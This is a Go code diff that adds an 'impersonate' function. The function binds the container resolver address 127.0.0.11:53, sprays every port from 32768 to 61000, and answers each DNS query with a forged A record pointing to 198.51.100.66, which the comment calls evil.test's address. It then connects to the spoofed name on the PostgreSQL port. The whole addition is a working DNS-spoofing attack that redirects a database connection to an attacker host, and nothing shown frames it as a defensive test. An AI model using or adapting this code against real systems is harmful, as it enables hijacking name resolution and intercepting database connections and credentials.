@@ -11,6 +11,7 @@ import (
 	"syscall"
 	"time"
 
+	"github.com/miekg/dns"
 	"golang.org/x/sys/unix"
 )
 
@@ -220,4 +221,37 @@ func settleAttempt(a *attempt) error {
 	defer conn.Close()
 	_, err = conn.Write([]byte(a.token))
 	return err
+}
+
+// impersonate waits where the engine's resolver seems to be, sends from there to
+// every port from which the gateway may ask, so that the kernel takes a question
+// for the answer to that, and says that name is at evil.test's address.
+func (a *attempt) impersonate(name string) error {
+	conn, err := net.ListenUDP("udp4", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 11), Port: 53})
+	if err != nil {
+		return err
+	}
+	defer conn.Close()
+	for port := 32768; port < 61000; port++ {
+		_, _ = conn.WriteToUDPAddrPort([]byte(a.token), netip.AddrPortFrom(ownLoopback, uint16(port)))
+	}
+	go func() {
+		b := make([]byte, 512)
+		for {
+			n, from, err := conn.ReadFromUDP(b)
+			if errors.Is(err, net.ErrClosed) {
+				return
+			}
+			q := new(dns.Msg)
+			if err != nil || q.Unpack(b[:n]) != nil || len(q.Question) != 1 {
+				continue
+			}
+			m := new(dns.Msg).SetReply(q)
+			m.Answer = records(q.Question[0].Name, dns.TypeA, "198.51.100.66")
+			if text, err := m.Pack(); err == nil {
+				_, _ = conn.WriteToUDP(text, from)
+			}
+		}
+	}()
+	return a.raw(name+":5432", "")
 }
